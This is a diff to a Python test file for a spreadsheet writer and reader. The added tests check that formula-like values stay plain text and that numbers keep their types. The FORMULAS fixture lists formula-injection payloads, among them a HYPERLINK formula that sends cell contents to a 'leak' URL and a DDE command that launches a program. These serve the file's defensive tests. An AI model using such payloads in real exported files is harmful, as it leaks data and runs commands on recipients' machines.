@@ -1,4 +1,5 @@
-"""The spreadsheet reader: streaming, with limits, refusing hostile files in bounded memory."""
+"""The spreadsheet writer (text stays text) and reader (streaming, with limits, refusing hostile
+files in bounded memory)."""
 from __future__ import annotations
 
 import io
@@ -17,6 +18,14 @@ from summit.core import spreadsheet
 from summit.core.spreadsheet import SpreadsheetError
 
 ROOT = Path(__file__).resolve().parents[2]
+LINK = '=HYPERLINK("http://127.0.0.1:5999/leak?"&A1,"Open CV")'
+FORMULAS = [LINK, "=2+3", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def formula_cells(data: bytes) -> list[str]:
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [cell.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+            if cell.data_type == "f"]
 HEADER = ["姓名 Name", "参会类别 Category", "单位 Organisation", "手机 Mobile phone", "邮箱 Email"]
 
 
@@ -146,3 +155,47 @@ def test_a_zip_that_unpacks_beyond_the_limit_is_refused():
     with pytest.raises(SpreadsheetError) as caught:
         spreadsheet.read_table("a.xlsx", data)
     assert caught.value.code == "size"
+
+
+# ---------------------------------------------------------------- writing
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_the_writer_keeps_formula_like_text_as_text(value):
+    """Unit level: the value itself is kept (quote-prefixed in .xlsx, apostrophe in CSV)."""
+    data = spreadsheet.table_xlsx(["a"], [[value, 1, None]])
+    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
+    # (XML reads a stored CR back as a line feed.)
+    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n") and cell.quotePrefix
+    assert spreadsheet.csv_value(value) == "'" + value
+
+
+def test_the_writer_turns_a_formula_written_around_it_into_text():
+    """A cell set directly (not through append) is swept before saving."""
+    book = spreadsheet.new_workbook()
+    sheet = spreadsheet.add_sheet(book, "a/b:c")
+    sheet["B3"] = LINK
+    sheet["C3"] = "plain"
+    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(book)))
+    assert book.sheetnames == ["a b c"]
+    assert book.active["B3"].data_type == "s" and book.active["B3"].value == LINK and not formula_cells(
+        spreadsheet.xlsx_bytes(book))
+
+
+def test_the_writer_drops_characters_xlsx_cannot_hold():
+    data = spreadsheet.table_xlsx(["a"], [["bell\x07 name", ["x", "y"], True]])
+    row = [c.value for c in openpyxl.load_workbook(io.BytesIO(data)).active[2]]
+    assert row == ["bell name", "x、y", True]
+
+
+def test_the_writer_keeps_numbers_as_numbers():
+    import datetime as dt
+    from decimal import Decimal
+
+    import numpy as np
+
+    data = spreadsheet.table_xlsx(["a"], [[3, 2.5, Decimal("1.25"), np.int64(7), np.float64(0.5),
+                                           dt.datetime(2024, 11, 19, 9, 30, tzinfo=dt.timezone.utc)]])
+    cells = openpyxl.load_workbook(io.BytesIO(data)).active[2]
+    assert [c.data_type for c in cells] == ["n", "n", "n", "n", "n", "d"]
+    assert [c.value for c in cells][:5] == [3, 2.5, 1.25, 7, 0.5]
+    assert spreadsheet.table_csv(["a"], [[3, np.int64(7), "007"]]).decode("utf-8-sig").splitlines()[1] == "3,7,\t007"
